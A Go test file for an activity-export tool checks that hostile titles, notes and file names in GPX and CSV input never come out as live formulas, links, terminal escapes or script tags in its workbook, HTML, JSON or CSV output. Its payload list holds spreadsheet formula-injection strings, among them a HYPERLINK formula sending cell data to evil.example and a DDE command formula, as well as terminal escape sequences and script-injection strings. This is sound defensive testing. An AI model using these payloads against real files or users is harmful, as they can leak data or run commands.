package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"dayafter/internal/testing/testfile"
)

// evil lists titles that attack a spreadsheet, a terminal or a parser.
var evil = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"evil")`, `+evil+1`, `-evil`, `@evil(1)`, `=cmd|' /C evil'!A0`, "\t=evil()", "\n=evil()", "\r=evil()",
	"evil\x1b]0;owned\a\x1b[2J", "evil\u009b2J\u0085", "evil\u202egnp.exe\u2066", "evil\xff\xfe\xc3(", "evil\x00nul", "_x003D_evil_x000D_",
	`evil</t></is></c><f>1+1</f>`, `evil"><script>&amp;`, "javascript:evil", "file:///evil", `'evil`, " =evil()", "\ufeff=evil()",
	"evil" + strings.Repeat("é", 40_000), "evil" + strings.Repeat("\U0001F3C3", 20_000), "evil\u2028line\u2029par",
	"Run;=1+1;evil", "evil,+1+1,x", "evil\t-1+1\tx", `evil";=1+1;"`, `evil; "=1+1"`, "\uff1devil()", "\uff0bevil", "\uff0devil", "\uff20evil", "evil;\uff1d1+1", "evil|@sum(1)",
}

// evilExport writes a bulk export with hostile titles, notes and file names.
func evilExport(t *testing.T, titles []string) string {
	t.Helper()
	folder := t.TempDir()
	run := strings.Replace(string(testfile.Read(t, fixture(t, "season/2025-07-09-0621.gpx"))), "<name>Morning run</name>", "", 1)
	index := "Activity ID,Activity Date,Activity Name,Activity Type,Activity Description,Filename\n"
	for i, title := range titles {
		day := fmt.Sprintf("2025-%02d-%02dT", 5+i/28, 1+i%28)
		name := fmt.Sprintf("=%d.gpx", i)
		text := strings.ReplaceAll(run, "2025-07-09T", day)
		switch i % 3 {
		case 0: // the title stands in the index
			quoted := `"` + strings.NewReplacer(`"`, `""`, "\x00", "").Replace(title) + `"` // with a NUL, the index would not be read as a table
			index += fmt.Sprintf("%d,\"May 1, 2025, 6:00:00 AM\",%s,Run,%s,%s\n", i, quoted, quoted, name)
		case 1: // in the file
			text = strings.Replace(text, "<trk>", "<trk><name><![CDATA["+title+"]]></name><desc><![CDATA["+title+"]]></desc>", 1)
		case 2: // as the name of the device
			text = regexp.MustCompile(`creator="[^"]*"`).ReplaceAllLiteralString(text, `creator="`+strings.NewReplacer(`"`, "&quot;", "<", "&lt;").Replace(title)+`"`)
			text = strings.Replace(text, "<trk>", "<trk><name><![CDATA[ "+title+"]]></name>", 1)
		}
		testfile.Put(t, filepath.Join(folder, name), []byte(text))
	}
	testfile.Put(t, filepath.Join(folder, "activities.csv"), []byte(index))
	return folder
}

// Titles, notes and the names of files and devices are never executed or interpreted,
// wherever they appear.
func TestInjection(t *testing.T) {
	folder, book := evilExport(t, evil), filepath.Join(t.TempDir(), "season.xlsx")
	totals := fmt.Sprintf("= runs %d ", len(evil))
	for _, args := range [][]string{{"season", "-o", book}, {"season", "--json", "-o", book}, {"scan"}, {"scan", "--json"}, {"scan", "--csv"}, {"zones"}, {"classify", filepath.Join(folder, "=0.gpx"), "--history"}} {
		p := dayafter(t, exitOK, append(append(args, folder), "--no-cache")...)
		what := strings.Join(args, " ")
		checkText(t, what, p.out.Bytes())
		checkText(t, what, p.errs.Bytes())
		if all := p.out.String() + p.errs.String(); (args[0] == "scan" || args[0] == "season") && !strings.Contains(all, totals) {
			t.Errorf("%s: %s", what, all[max(0, len(all)-300):])
		}
		switch args[len(args)-1] {
		case "--json":
			if !json.Valid(bytes.ReplaceAll(p.out.Bytes(), []byte("}\n{"), []byte("},{"))) && !jsonLines(p.out.Bytes()) {
				t.Errorf("%s: no JSON", what)
			}
		case "--csv":
			checkCSV(t, p.out.String())
		}
	}
	checkWorkbook(t, testfile.Read(t, book))
	page := testfile.Read(t, strings.TrimSuffix(book, ".xlsx")+".html")
	checkText(t, "the page", page)
	if bytes.Contains(page, []byte("<script")) || bytes.Contains(page, []byte("<img src=x")) {
		t.Error("the page holds a tag of a title")
	}
}

func jsonLines(out []byte) bool {
	for dec := json.NewDecoder(bytes.NewReader(out)); ; {
		var v any
		if err := dec.Decode(&v); err != nil {
			return errors.Is(err, io.EOF)
		}
	}
}

// checkCSV fails for a cell that a spreadsheet program would take for a formula.
func checkCSV(t *testing.T, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, row := range rows {
		for _, cell := range row {
			if strings.Contains(cell, "evil") {
				n++
			}
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
				t.Errorf("a cell begins like a formula: %.60q", cell)
			}
		}
	}
	if n < len(evil)*2/3 {
		t.Errorf("only %d of %d titles are in the CSV", n, len(evil))
	}
}

// checkWorkbook checks every part of a workbook with checkPart.
func checkWorkbook(t *testing.T, book []byte) {
	t.Helper()
	words := 0
	for _, p := range partsOf(t, book) {
		words += checkPart(t, p.name, p.data)
	}
	if words < len(evil)*2/3 {
		t.Errorf("only %d of %d titles are in the workbook", words, len(evil))
	}
}

// longestText is Excel's limit for the text of a cell in UTF-16 units.
const longestText = 32_767

// checkPart returns how many texts of a part hold a title. It fails for a formula or a link
// that holds one, for a link to anything but a web page, and for text that Excel refuses.
func checkPart(t *testing.T, name string, data []byte) (words int) {
	t.Helper()
	if !utf8.Valid(data) {
		t.Errorf("%s: no UTF-8", name)
	}
	dec := xml.NewDecoder(bytes.NewReader(data))
	inside := ""
	for {
		tok, err := dec.Token()
		if errors.Is(err, io.EOF) {
			return words
		}
		if err != nil {
			t.Errorf("%s: %v", name, err)
			return words
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			inside = tok.Name.Local
			for _, a := range tok.Attr {
				link := inside == "Relationship" && a.Name.Local == "Target" || inside == "hyperlink" && a.Name.Local == "location"
				if link && (strings.Contains(a.Value, "evil") || strings.Contains(a.Value, ":") && !strings.HasPrefix(a.Value, "http")) {
					t.Errorf("%s: a link to %.60q", name, a.Value)
				}
			}
		case xml.CharData:
			has := strings.Contains(string(tok), "evil")
			if has && inside != "t" && inside != "v" {
				t.Errorf("%s: <%s>%.60q", name, inside, tok)
			}
			if n := len(utf16.Encode([]rune(string(tok)))); n > longestText {
				t.Errorf("%s: a text of %d units", name, n)
			}
			if has {
				words++
			}
		}
	}
}
